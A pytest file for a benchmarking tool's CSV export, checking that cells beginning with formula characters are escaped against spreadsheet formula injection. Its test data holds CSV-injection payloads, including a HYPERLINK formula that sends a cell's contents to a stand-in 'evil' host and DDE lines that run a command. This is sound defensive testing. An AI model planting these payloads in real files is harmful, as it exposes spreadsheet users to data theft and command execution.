"""CSV exports open in a spreadsheet as text, never as a formula (issue 29, security): a text
cell starting with `= + - @`, tab or CR (a topology named `=HYPERLINK(...)`) gets a leading
`'` (OWASP's CSV-injection rule) in `--csv` files and `collbench export --csv`, while numbers
(-1.5) stay numbers and ordinary text stays as written."""

from __future__ import annotations

import csv
import io
from dataclasses import replace
from pathlib import Path

import pytest

from collbench.render.export import csv_columns, csv_record, csv_text
from tests.helpers import collbench
from tests.rows import make_row, write_run

FORMULAS = {
    "hyperlink": '=HYPERLINK("http://evil/?"&A1,"click")',
    "plus command": "+cmd|' /C calc'!A0",
    "minus": "-2+3+cmd|' /C calc'!A0",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "tab": "\t=1+1",
    "CR": "\r=1+1",
}
PLAIN = ["cpu-local", "dgx-h100", "my fabric (v2)", "a=b", "x-1", "", "'quoted"]


@pytest.mark.parametrize("text", FORMULAS.values(), ids=FORMULAS)
def test_a_cell_a_spreadsheet_would_run_is_text(text):
    assert csv_text(text) == "'" + text


@pytest.mark.parametrize("text", PLAIN)
def test_ordinary_text_is_written_as_is(text):
    assert csv_text(text) == text


def _read(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


@pytest.mark.parametrize("name", FORMULAS.values(), ids=FORMULAS)
def test_a_row_whose_topology_is_a_formula_keeps_its_numbers(name):
    row = make_row(topology=name, time_us=1.5, size_bytes=1024)
    columns = csv_columns(False)
    buffer = io.StringIO()
    csv.writer(buffer).writerow(columns)
    csv.writer(buffer).writerow(csv_record(row, columns))
    (cells,) = _read(buffer.getvalue())
    assert cells["topology"] == "'" + name
    assert cells["time_us"] == "1.5" and cells["size_bytes"] == "1024"
    assert not any(
        cell.startswith(("=", "+", "-", "@", "\t", "\r"))
        for column, cell in cells.items()
        if isinstance(getattr(row, column, None), str)
    )


def test_negative_numbers_stay_numbers():
    # not a measurement the store accepts; a number all the same, written as one
    row = replace(make_row(), time_cv=-1.5, busbw_gbps=-0.25)
    columns = csv_columns(False)
    cells = dict(zip(columns, csv_record(row, columns), strict=True))
    assert cells["time_cv"] == "-1.5" and cells["busbw_gbps"] == "-0.25"


def test_export_of_a_run_with_a_formula_topology(tmp_path):
    name = FORMULAS["hyperlink"]
    rows = [make_row(run_id="r1", topology=name, size_bytes=size) for size in (8, 64)]
    run = write_run(tmp_path / "run", rows, {"run_id": "r1", "topology": name})
    out = tmp_path / "rows.csv"
    done = collbench("export", str(run), "--csv", str(out))
    assert done.returncode == 0, done.stderr
    cells = _read(out.read_text())
    assert [cell["topology"] for cell in cells] == ["'" + name] * 2
    assert [cell["size_bytes"] for cell in cells] == ["8", "64"]


@pytest.mark.slow  # real gloo ranks: a sweep's own --csv, as rows arrive
def test_a_sweeps_csv_with_a_topology_named_as_a_formula(tmp_path):
    from tests.helpers import collbench_process

    source = Path(__file__).resolve().parents[3] / "topologies" / "cpu-local.yaml"
    name = FORMULAS["plus command"]
    text = source.read_text().replace("name: cpu-local", f'name: "{name}"', 1)
    topology = tmp_path / "evil.yaml"
    topology.write_text(text)
    out, table = tmp_path / "run", tmp_path / "rows.csv"
    done = collbench_process(
        "sweep", "-c", "all_reduce", "-e", "64", "-n", "2", "-w", "1", "--repeats", "1",
        "-q", "--topology", str(topology), "--out", str(out), "--csv", str(table),
    )  # fmt: skip
    assert done.returncode == 0, done.stderr
    cells = _read(table.read_text())
    assert cells and {cell["topology"] for cell in cells} == {"'" + name}
    assert all(float(cell["time_us"]) > 0 for cell in cells)
